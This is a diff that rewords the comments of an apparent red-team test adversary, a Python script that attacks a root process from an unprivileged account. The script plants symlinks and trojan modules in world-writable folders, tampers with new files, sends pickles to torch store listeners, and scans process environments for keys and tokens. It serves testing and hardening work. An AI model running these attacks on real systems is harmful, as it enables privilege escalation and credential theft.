@@ -1,16 +1,17 @@
-"""An account without rights that tries, all the time, to get at what root does on the same node.
+"""Attack a root run from an account without rights on the same node, until stopped.
 
-``python3 -Es adversary.py settings.json`` there (stdlib only), as that account, until it is ended. What it finds stands
-in ``found.jsonl`` in its home, a line each; code that another account ran for it leaves a file named after that
-account in ``won``.
+Run ``python3 -Es adversary.py settings.json`` as that account (stdlib only). Each finding is a line
+in ``found.jsonl`` in its home. If another account runs the adversary's code, that code leaves a
+file in ``won``, named after the account.
 
-It plants in advance: links, directories, fifos and files at every name that somebody could know before, modules and
-programs wherever all may write. It watches those folders by inotify, tries to read, write, replace and link what
-appears, and plants the names that a careless program takes next. It connects to every listener that appears, speaks
-torch's store, sends pickles, and reads the command lines and environments of whoever lets it.
+In advance, it plants links, directories, fifos and files at every predictable name, and modules and
+programs in world-writable folders. It watches those folders with inotify. It tries to read, write,
+replace and link every new file, and takes the names that a careless program would use next. It
+connects to every new listener, speaks the protocol of torch's store and sends pickles. It also
+reads the command lines and environments of processes, where permitted.
 
-It also is what it is not: ranks and launchers of somebody else's job, and a node_exporter with a folder of its own, in
-which it replaces what appears by links (adversary_ranks.py).
+It also pretends to be other programs (adversary_ranks.py): ranks and launchers of another account's
+job, and a node_exporter. In that exporter's folder it replaces new files with links.
 """
 
 from __future__ import annotations
@@ -42,18 +43,18 @@ if TYPE_CHECKING:
 INTERESTING = 0x8 | 0x80 | 0x100 | 0x4
 EVENT = struct.Struct("iIII")
 LARGEST = 1 << 18
-PERIOD = 2.0  # seconds between two looks at everything
-FAST = 0.03  # between two looks at what inotify does not tell
-SWAP = 0.0005  # between two looks into the folder of the node_exporter
-PLANT_PERIOD = 3.0  # until a name is planted as something else
+PERIOD = 2.0  # seconds between two scans of everything
+FAST = 0.03  # between two scans for changes that inotify does not report
+SWAP = 0.0005  # between two scans of the node_exporter's folder
+PLANT_PERIOD = 3.0  # until a name is planted as another kind of file
 SIBLINGS = (".new", ".tmp", ".part", "~", ".bak", ".lock", ".old")
 KEY = re.compile(rb"-----BEGIN [A-Z ]*PRIVATE KEY")
-# Only of what runs: files of the system are full of such words.
+# Search running processes only: files of the system are full of such words.
 SECRET = re.compile(rb"(?:token|secret|passw\w*|api_?key)['\"]?\s*[=:]\s*\S{6,}", re.IGNORECASE)
 
 
 class Adversary:
-    """What it knows, and what it has found."""
+    """The state of the attack and its findings."""
 
     def __init__(self, settings: dict[str, Any]) -> None:
         self.settings = settings
@@ -62,14 +63,14 @@ class Adversary:
         self.words = [word.encode() for word in settings["words"]]
         self.lock = threading.Lock()
         self.seen: set[tuple[str, str]] = set()
-        self.found = open(os.path.join(self.home, "found.jsonl"), "a")  # noqa: SIM115 (open as long as this runs)
+        self.found = open(os.path.join(self.home, "found.jsonl"), "a")  # noqa: SIM115 (open until the process ends)
         self.turn = 0
         self.watch = Watch()
         self.pretended: list[subprocess.Popen[bytes]] = []
         settings["spared"] = tuple(settings["spared"])
 
     def say(self, what: str, where: str, **more: Any) -> None:
-        """Write down what succeeded, once."""
+        """Write down a success, once."""
         with self.lock:
             if (what, where) in self.seen:
                 return
@@ -78,7 +79,7 @@ class Adversary:
             self.found.flush()
 
     def told(self, what: str, where: str, raw: bytes) -> None:
-        """Look through something that could be read for what nobody may know."""
+        """Search readable data for secrets."""
         held = [word.decode() for word in self.words if word in raw]
         match = KEY.search(raw) or (what != "file" and SECRET.search(raw))
         if match:
@@ -86,10 +87,11 @@ class Adversary:
         if held:
             self.say("secret", where, by=what, words=held)
 
-    # what lies in files
+    # --- files
+    # --------------------------------------------------------------------------------------------
 
     def payload(self, name: str) -> str:
-        """A Python text that leaves a mark of whoever runs it, unless that is this account."""
+        """Return Python text that leaves a mark of the account that runs it, except this account."""
         won = self.settings["won"]
         return (
             "import os as _o\n"
@@ -101,7 +103,7 @@ class Adversary:
         )
 
     def traps(self) -> Iterator[tuple[str, str, int]]:
-        """Modules and programs for whoever looks for them where all may write."""
+        """Return modules and programs to plant in world-writable folders."""
         for folder in self.settings["open"]:
             for module in self.settings["modules"]:
                 yield os.path.join(folder, module + ".py"), self.payload("module-" + module), 0o644
@@ -111,7 +113,7 @@ class Adversary:
                 yield os.path.join(folder, program), text, 0o755
 
     def set_traps(self) -> None:
-        """Lay what is missing of them."""
+        """Plant those that are missing."""
         for path, text, mode in self.traps():
             with contextlib.suppress(OSError):
                 handle = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, mode)
@@ -119,7 +121,7 @@ class Adversary:
                     stream.write(text)
 
     def ways(self) -> list[Callable[[str], None]]:
-        """What a name can be planted as."""
+        """Return the kinds of file that can be planted at a name."""
         links = [partial(os.symlink, to) for to in self.settings["targets"]]
         return [*links, partial(os.mkdir, mode=0o777), os.mkfifo, touch]
 
@@ -130,7 +132,7 @@ class Adversary:
             ways[turn % len(ways)](path)
 
     def plant_names(self) -> None:
-        """Every name that can be known before, each time as something else."""
+        """Plant every predictable name, each time as another kind."""
         self.turn += 1
         for number, path in enumerate(self.settings["names"]):
             self.inside(path)
@@ -138,7 +140,7 @@ class Adversary:
             self.plant(path, self.turn + number)
 
     def drop(self, path: str) -> None:
-        """Take away what is ours at a name."""
+        """Remove our file at a name."""
         with contextlib.suppress(OSError):
             info = os.lstat(path)
             if info.st_uid != self.me:
@@ -149,7 +151,7 @@ class Adversary:
                 os.unlink(path)
 
     def inside(self, path: str) -> None:
-        """Return whether somebody else has put something into a directory or a file of ours."""
+        """Return whether another account has put data into one of our directories or files."""
         with contextlib.suppress(OSError):
             info = os.lstat(path)
             if info.st_uid == self.me and stat.S_ISDIR(info.st_mode):
@@ -165,7 +167,7 @@ class Adversary:
                     self.say("wrote into ours", path, text=raw[:80].decode("utf-8", "replace"))
 
     def meddle(self, path: str) -> None:
-        """All that can be tried with a path of somebody else's."""
+        """Try every attack on a path of another account."""
         try:
             info = os.lstat(path)
         except OSError:
@@ -194,7 +196,7 @@ class Adversary:
                 self.plant(path + suffix, number % len(self.settings["targets"]))
 
     def read(self, path: str, info: os.stat_result) -> None:
-        """Read what another has written."""
+        """Read a file that another account wrote."""
         with contextlib.suppress(OSError):
             handle = os.open(path, os.O_RDONLY | os.O_NOFOLLOW | os.O_NONBLOCK)
             with os.fdopen(handle, "rb") as stream:
@@ -203,7 +205,7 @@ class Adversary:
             self.told("file", path, raw)
 
     def enter(self, folder: str) -> None:
-        """Watch a directory, and meddle with all that is in it already."""
+        """Watch a directory, and attack everything in it."""
         self.watch.add(folder)
         with contextlib.suppress(OSError):
             for name in os.listdir(folder):
@@ -211,16 +213,17 @@ class Adversary:
                 if path not in self.watch.folders:
                     self.meddle(path)
 
-    # the loops
+    # --- loops
+    # --------------------------------------------------------------------------------------------
 
     def follow(self) -> None:
-        """Answer to what appears, as it appears."""
+        """React to new files as they appear."""
         while True:
             for path in self.watch.read():
                 self.meddle(path)
 
     def look(self) -> None:
-        """Go through all of it from time to time: directories that opened up since, names that are free again."""
+        """Scan everything at intervals: directories that became readable, names that are free again."""
         planted = 0.0
         while True:
             for pattern in self.settings["places"]:
@@ -233,7 +236,7 @@ class Adversary:
             time.sleep(PERIOD)
 
     def walk(self, folder: str) -> None:
-        """Meddle with every path below a folder that nobody has looked at yet."""
+        """Attack every path below a folder that was not seen before."""
         for where, folders, files in os.walk(folder):
             folders[:] = [one for one in folders if one not in ("site-packages", "__pycache__")]
             for path in (where, *(os.path.join(where, name) for name in files)):
@@ -242,7 +245,7 @@ class Adversary:
                     self.meddle(path)
 
     def processes(self) -> None:
-        """Read the command line and the environment of every process, as soon as it is there."""
+        """Read the command line and the environment of every new process."""
         known: set[str] = set()
         while True:
             present = {name for name in os.listdir("/proc") if name.isdigit()}
@@ -257,7 +260,7 @@ class Adversary:
             time.sleep(FAST)
 
     def pretend(self) -> None:
-        """Be ranks of a job, and a node_exporter, if that is wanted."""
+        """Start the fake ranks and the fake node_exporter, if configured."""
         path = os.path.join(os.path.dirname(os.path.abspath(__file__)), "adversary_ranks.py")
         for name in FAKES if self.settings["job"] else ():
             try:
@@ -270,7 +273,7 @@ class Adversary:
             self.pretended.append(start_exporter(self.home, folder, path))
 
     def swap(self) -> None:
-        """Replace what is on its way into the folder of the node_exporter by links."""
+        """Replace new files in the node_exporter's folder with links."""
         folder = self.settings["exporter"]
         while folder:
             for name in os.listdir(folder):
@@ -284,7 +287,7 @@ class Adversary:
         time.sleep(PERIOD)
 
     def run(self) -> None:
-        """Do all of it at the same time, until it is ended."""
+        """Run all attacks at the same time, until stopped."""
         network = Network(self.settings, self.me, self.say, self.told)
         self.pretend()
         self.set_traps()
@@ -297,23 +300,23 @@ class Adversary:
 
 
 def kept_up(loop: Callable[[], None], say: Callable[..., None]) -> None:
-    """A loop that stumbles goes on, and the test learns of it."""
+    """Keep a loop running after an error, and report the error to the test."""
     while True:
         try:
             loop()
-        except Exception as error:  # whatever it meets on the node
+        except Exception as error:  # any error on the node
             say("stumbled", f"{loop.__name__}: {type(error).__name__}: {error}")
             time.sleep(FAST)
 
 
 def touch(path: str) -> None:
-    """An empty file that all may write to."""
+    """Create an empty file that all may write to."""
     os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o666))
-    os.chmod(path, 0o666)  # noqa: S103 (that is the trap)
+    os.chmod(path, 0o666)  # noqa: S103 (the trap)
 
 
 class Watch:
-    """The kernel's word of what appears in directories."""
+    """The kernel's reports of new files in directories."""
 
     def __init__(self) -> None:
         self.libc = ctypes.CDLL(None, use_errno=True)
@@ -329,7 +332,7 @@ class Watch:
             self.names[number] = folder
 
     def read(self) -> Iterator[str]:
-        """Wait for something; what appeared."""
+        """Wait for events. Return the new paths."""
         raw = os.read(self.handle, 1 << 16)
         while raw:
             number, _mask, _cookie, size = EVENT.unpack_from(raw)
